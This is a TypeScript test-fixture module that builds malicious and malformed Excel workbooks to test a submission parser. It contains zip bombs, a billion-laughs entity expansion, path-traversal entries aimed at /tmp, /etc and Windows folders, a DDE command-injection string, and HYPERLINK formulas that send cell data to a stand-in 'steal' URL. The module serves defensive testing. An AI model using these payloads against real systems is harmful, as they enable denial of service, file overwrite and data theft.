import { columnLetter, concatBytes } from '@jianshen/ooxml';
import { zlibSync } from 'fflate';
import {
  crc32,
  repeatingDeflate,
  utf8,
  writeZip,
  type ZipInput,
} from '../../../ooxml/src/zip-forge.test-support.js';
import { largeSheetStrings, submissionSheet, validRow } from './submission.js';
import { buildXlsx, sheetXml } from './workbook-bytes.js';

/**
 * Hostile and broken inputs, generated at test time (nothing large is ever stored on disk).
 * Each returns the bytes a clerk — or an attacker — might send.
 */

/** A well-formed submission from `unit` with `count` valid rows. */
export function goodWorkbook(unit: string, count = 3): Uint8Array {
  const rows = Array.from({ length: count }, (_, index) => validRow(index + 1, unit));
  return buildXlsx({ sheets: [submissionSheet(unit, rows)], sharedStrings: true });
}

/** The central directory signature overwritten: the zip structure itself is broken. */
export function corruptZip(): Uint8Array {
  const bytes = goodWorkbook('古县').slice();
  const view = new DataView(bytes.buffer);
  for (let at = bytes.length - 22; at >= 0; at--) {
    if (view.getUint32(at, true) === 0x06054b50) {
      const directory = view.getUint32(at + 16, true);
      view.setUint32(directory, 0xdeadbeef, true);
      break;
    }
  }
  return bytes;
}

/** The deflate stream of the worksheet garbled, the directory intact. */
export function garbledEntryZip(): Uint8Array {
  const bytes = goodWorkbook('吉县').slice();
  const view = new DataView(bytes.buffer);
  const name = utf8('xl/worksheets/sheet1.xml');
  for (let at = 0; at + 30 < bytes.length; at++) {
    if (view.getUint32(at, true) !== 0x04034b50) continue;
    const nameLength = view.getUint16(at + 26, true);
    const found = bytes.subarray(at + 30, at + 30 + nameLength);
    if (nameLength === name.length && found.every((byte, index) => byte === name[index])) {
      const start = at + 30 + nameLength;
      const size = view.getUint32(at + 18, true);
      // 0xff bytes make block type 3, which does not exist in deflate.
      bytes.fill(0xff, start, start + Math.min(size, 64));
      break;
    }
  }
  return bytes;
}

/** The first 60% of a good file, as an interrupted download or a full USB stick leaves it. */
export function truncatedZip(): Uint8Array {
  const bytes = goodWorkbook('蒲县');
  return bytes.slice(0, Math.floor(bytes.length * 0.6));
}

/**
 * What repeats without end in a `zipBomb`:
 * - `cell`: the text of one inline-string cell (C5), in the sheet;
 * - `shared-string`: the text of the first shared string, which C5 refers to;
 * - `row`: the cell C5 itself, over and over in one row (each copy small and well-formed);
 * - `tag`: one attribute value of C5, so the tag never closes.
 */
export type BombKind = 'cell' | 'shared-string' | 'row' | 'tag';

/**
 * A workbook whose sheet (or shared strings) inflates to `gigabytes` GB: one endless cell, row or
 * tag (see `BombKind`). The compressed file is a few megabytes. With `honest: false` the zip
 * declares a harmless size, so only counting the real inflated bytes catches it.
 */
export function zipBomb({
  gigabytes = 2,
  honest = false,
  kind = 'cell',
}: {
  gigabytes?: number;
  honest?: boolean;
  kind?: BombKind;
} = {}): Uint8Array {
  const head = sheetXml(submissionSheet('霍州市', [validRow(1, '霍州市')], { footer: false }));
  const sheetHead = `${head.slice(0, head.indexOf('</sheetData>'))}<row r="5">`;
  const repeat = Math.min(gigabytes * 2 ** 30, 0xffff_0000);
  const cell = '<c r="C5"><v>1</v></c>';
  const endless: Record<BombKind, { part: string; open: string; period: number }> = {
    cell: { part: 'sheet', open: `${sheetHead}<c r="C5" t="inlineStr"><is><t>A`, period: 1 },
    'shared-string': {
      part: 'sharedStrings',
      open: `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>A`,
      period: 1,
    },
    row: { part: 'sheet', open: `${sheetHead}${cell}`, period: cell.length },
    tag: { part: 'sheet', open: `${sheetHead}<c r="C5" t="s" s="A`, period: 1 },
  };
  const { part, open, period } = endless[kind];
  const deflated = repeatingDeflate(utf8(open), repeat, period);
  const bomb: ZipInput = {
    name: part === 'sheet' ? 'xl/worksheets/sheet1.xml' : 'xl/sharedStrings.xml',
    // The CRC of gigabytes of 'A' is not worth computing: a reader must stop long before it.
    deflated: { chunks: deflated.chunks, crc: 0, size: deflated.size },
    ...(honest ? {} : { declaredSize: 4096 }),
  };
  if (part === 'sheet') return writeZip([...workbookSkeleton(), bomb]);
  const sheet = sheetXml(submissionSheet('霍州市', [validRow(1, '霍州市')])).replace(
    '</sheetData>',
    '<row r="5"><c r="C5" t="s"><v>0</v></c></row></sheetData>',
  );
  return writeZip([
    ...workbookSkeleton({ sharedStrings: true }),
    { name: 'xl/worksheets/sheet1.xml', data: sheet },
    bomb,
  ]);
}

/** Every part of a one-sheet workbook but the sheet itself (and the shared strings it names). */
function workbookSkeleton({ sharedStrings = false } = {}) {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const packageRelationships = 'http://schemas.openxmlformats.org/package/2006/relationships';
  return [
    {
      name: '[Content_Types].xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packageRelationships}"><Relationship Id="rId1" Type="${relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${main}" xmlns:r="${relationships}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packageRelationships}"><Relationship Id="rId1" Type="${relationships}/worksheet" Target="worksheets/sheet1.xml"/>${sharedStrings ? `<Relationship Id="rId2" Type="${relationships}/sharedStrings" Target="sharedStrings.xml"/>` : ''}</Relationships>`,
    },
  ];
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const typed = concatBytes([utf8(type), data]);
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(typed, 4);
  view.setUint32(8 + data.length, crc32(typed));
  return out;
}

/** A real 16×16 PNG (a photo of the stamped paper form, renamed .xlsx). */
export function pictureBytes(): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, 16);
  view.setUint32(4, 16);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const pixels = new Uint8Array(16 * (1 + 16 * 3)).fill(0xc0);
  for (let row = 0; row < 16; row++) pixels[row * 49] = 0; // filter byte per scanline
  return concatBytes([
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlibSync(pixels)),
    pngChunk('IEND', new Uint8Array()),
  ]);
}

/** A valid workbook with one sheet and nothing on it. */
export function emptyWorkbook(): Uint8Array {
  return buildXlsx({ sheets: [{ name: 'Sheet1', rows: [] }] });
}

/**
 * What Excel writes when a workbook has an open password: not a zip but an OLE2 compound file
 * holding an `EncryptionInfo` and an `EncryptedPackage` stream (MS-OFFCRYPTO, agile
 * encryption). Sector size 512; sector 0 the FAT, sector 1 the directory, then the two streams.
 */
export function passwordProtectedWorkbook(): Uint8Array {
  const sector = 512;
  const streamSectors = 8; // 4,096 bytes each: at the mini-stream cutoff, so in regular sectors
  const infoStart = 2;
  const packageStart = infoStart + streamSectors;
  const total = packageStart + streamSectors;
  const bytes = new Uint8Array(sector * (1 + total));
  const view = new DataView(bytes.buffer);
  const at = (sectorIndex: number) => sector * (1 + sectorIndex);
  const endOfChain = 0xfffffffe;
  const free = 0xffffffff;

  // Header.
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  view.setUint16(24, 0x003e, true); // minor version
  view.setUint16(26, 0x0003, true); // major version 3: 512-byte sectors
  view.setUint16(28, 0xfffe, true); // byte order
  view.setUint16(30, 9, true); // sector shift
  view.setUint16(32, 6, true); // mini sector shift
  view.setUint32(44, 1, true); // FAT sectors
  view.setUint32(48, 1, true); // first directory sector
  view.setUint32(56, 4096, true); // mini stream cutoff
  view.setUint32(60, endOfChain, true); // first mini FAT sector
  view.setUint32(68, endOfChain, true); // first DIFAT sector
  view.setUint32(76, 0, true); // DIFAT[0]: the FAT is sector 0
  for (let index = 1; index < 109; index++) view.setUint32(76 + index * 4, free, true);

  // FAT.
  const fat = at(0);
  for (let index = 0; index < sector / 4; index++) view.setUint32(fat + index * 4, free, true);
  view.setUint32(fat, 0xfffffffd, true); // sector 0 is the FAT
  view.setUint32(fat + 4, endOfChain, true); // the directory is one sector
  for (const start of [infoStart, packageStart]) {
    for (let index = 0; index < streamSectors; index++) {
      const next = index === streamSectors - 1 ? endOfChain : start + index + 1;
      view.setUint32(fat + (start + index) * 4, next, true);
    }
  }

  // Directory: Root Entry, EncryptionInfo, EncryptedPackage (siblings ordered by name length).
  const entry = (
    index: number,
    name: string,
    type: number,
    fields: { child?: number; right?: number; start: number; size: number },
  ) => {
    const base = at(1) + index * 128;
    for (let char = 0; char < name.length; char++)
      view.setUint16(base + char * 2, name.charCodeAt(char), true);
    view.setUint16(base + 64, (name.length + 1) * 2, true);
    bytes[base + 66] = type;
    bytes[base + 67] = 1; // black
    view.setUint32(base + 68, free, true); // left sibling
    view.setUint32(base + 72, fields.right ?? free, true);
    view.setUint32(base + 76, fields.child ?? free, true);
    view.setUint32(base + 116, fields.start, true);
    view.setUint32(base + 120, fields.size, true);
  };
  entry(0, 'Root Entry', 5, { child: 1, start: endOfChain, size: 0 });
  entry(1, 'EncryptionInfo', 2, { right: 2, start: infoStart, size: sector * streamSectors });
  entry(2, 'EncryptedPackage', 2, { start: packageStart, size: sector * streamSectors });
  for (let index = 3; index < 4; index++) {
    const base = at(1) + index * 128;
    view.setUint32(base + 68, free, true);
    view.setUint32(base + 72, free, true);
    view.setUint32(base + 76, free, true);
  }

  // EncryptionInfo: version 4.4 (agile), flags 0x40, then the XML descriptor.
  const info = at(infoStart);
  view.setUint16(info, 4, true);
  view.setUint16(info + 2, 4, true);
  view.setUint32(info + 4, 0x40, true);
  bytes.set(
    utf8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>',
    ),
    info + 8,
  );
  // EncryptedPackage: declared plaintext size, then ciphertext (noise here).
  const encrypted = at(packageStart);
  view.setUint32(encrypted, 12_345, true);
  for (let index = 8; index < sector * streamSectors; index++) {
    bytes[encrypted + index] = (index * 131 + 7) & 0xff;
  }
  return bytes;
}

/** One header row 16,384 cells wide (A to XFD), Excel's largest, above a normal table. */
export function widestSheet(): Uint8Array {
  const wide = Array.from({ length: 16_384 }, (_, index) => `列${columnLetter(index)}`);
  const sheet = submissionSheet('隰县', [wide, validRow(2, '隰县')]);
  return buildXlsx({ sheets: [sheet] });
}

/**
 * A 活动简介 (D4) of `length` times `char` in an otherwise valid row: 32,767 is Excel's limit,
 * more than that only other writers make. `&` is written as `&amp;`, five characters of XML each.
 */
export function longCellWorkbook({
  length = 32_767,
  char = '长',
  sharedStrings = false,
}: {
  length?: number;
  char?: string;
  sharedStrings?: boolean;
} = {}): Uint8Array {
  const row = validRow(1, '大宁县');
  row[3] = char.repeat(length);
  return buildXlsx({ sheets: [submissionSheet('大宁县', [row, validRow(2, '大宁县')])], sharedStrings });
}

/** Formulas pointing into another workbook ([1]Sheet1!A1), with and without cached values. */
export function externalReferenceWorkbook(): Uint8Array {
  const first = validRow(1, '永和县');
  first[2] = { formula: '[1]Sheet1!A1', cached: '永和县外链活动' };
  first[7] = { formula: "'C:\\Users\\clerk\\[联系人.xlsx]Sheet1'!$B$2", cached: '13912340001' };
  const second = validRow(2, '永和县');
  second[0] = { formula: 'ROW()-3', cached: 2 };
  second[3] = { formula: 'HYPERLINK("http://example.invalid/steal?x="&A1,"点击")', cached: '点击' };
  return buildXlsx({
    sheets: [submissionSheet('永和县', [first, second])],
    extraEntries: [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
      },
    ],
  });
}

/** Text cells a spreadsheet would run as formulas if an output wrote them carelessly. */
export const injectionTexts = [
  '=HYPERLINK("http://example.invalid/?d="&A1,"点这里")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
] as const;

/**
 * Injection texts in accepted rows (活动名称, 联系人, 备注) and in two rows that fail, so the
 * value as typed also reaches the issues list: 举办方式 `=1+1` (row 9), 联系方式 `@SUM(A1:A9)` (row 10).
 */
export function formulaInjectionWorkbook(): Uint8Array {
  const rows = injectionTexts.map((text, index) => {
    const row = validRow(index + 1, '乡宁县');
    row[2] = `${text} 活动${index + 1}`;
    row[6] = index % 2 === 0 ? text : '王明';
    row[8] = text;
    return row;
  });
  const badMode = validRow(6, '乡宁县');
  badMode[4] = '=1+1';
  const badPhone = validRow(7, '乡宁县');
  badPhone[7] = '@SUM(A1:A9)';
  return buildXlsx({
    sheets: [submissionSheet('乡宁县', [...rows, badMode, badPhone])],
    sharedStrings: true,
  });
}

const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`;

/** Billion laughs: an entity that expands to 10⁹ "lol"s, in the sheet or in sharedStrings. */
export function entityExpansionWorkbook(part: 'sheet' | 'sharedStrings'): Uint8Array {
  const sheet = submissionSheet('汾西县', [validRow(1, '汾西县')]);
  const withDoctype = (xml: string) => xml.replace(/^(<\?xml[^>]*\?>\n?)/, `$1${laughs}`);
  if (part === 'sheet') {
    const xml = withDoctype(sheetXml(sheet)).replace('社区健步走第1场', '&lol9;');
    return buildXlsx({ sheets: [{ ...sheet, xml }] });
  }
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const strings = withDoctype(
    `<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="${main}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`,
  );
  const row = validRow(1, '汾西县');
  return buildXlsx({
    sheets: [
      {
        ...sheet,
        xml: sheetXml(submissionSheet('汾西县', [row])).replace(
          /<c r="C4" t="inlineStr">.*?<\/c>/,
          '<c r="C4" t="s"><v>0</v></c>',
        ),
      },
    ],
    sharedStrings: true,
    sharedStringsXml: strings,
  });
}

/**
 * Names that climb out of any folder: the sheet's relationship points outside the package, and
 * extra entries carry `../` and absolute names (a reader that extracted them would write there).
 */
export function pathTraversalWorkbook(kind: 'relationship' | 'entries'): Uint8Array {
  const sheet = submissionSheet('安泽县', [validRow(1, '安泽县'), validRow(2, '安泽县')]);
  const packageRelationships = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  if (kind === 'relationship') {
    return buildXlsx({
      sheets: [sheet],
      workbookRels: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packageRelationships}"><Relationship Id="rId1" Type="${relationships}/worksheet" Target="../../../../../../etc/passwd"/></Relationships>`,
    });
  }
  return buildXlsx({
    sheets: [sheet],
    extraEntries: [
      { name: '../../../../tmp/jianshen-evil.sh', data: '#!/bin/sh\necho pwned\n' },
      { name: '/etc/jianshen-evil.conf', data: 'x' },
      { name: '..\\..\\windows\\evil.bat', data: 'x' },
    ],
  });
}

/**
 * Every part of a workbook whose sheet is `largeSheetXml` but the sheet itself: the caller
 * deflates the sheet as it is generated (a million rows) and adds it as `xl/worksheets/sheet1.xml`.
 */
export function largeWorkbookParts(): ZipInput[] {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const strings = largeSheetStrings.map((text) => `<si><t>${text}</t></si>`).join('');
  return [
    ...workbookSkeleton({ sharedStrings: true }),
    {
      name: 'xl/sharedStrings.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${main}" count="${largeSheetStrings.length}" uniqueCount="${largeSheetStrings.length}">${strings}</sst>`,
    },
  ];
}
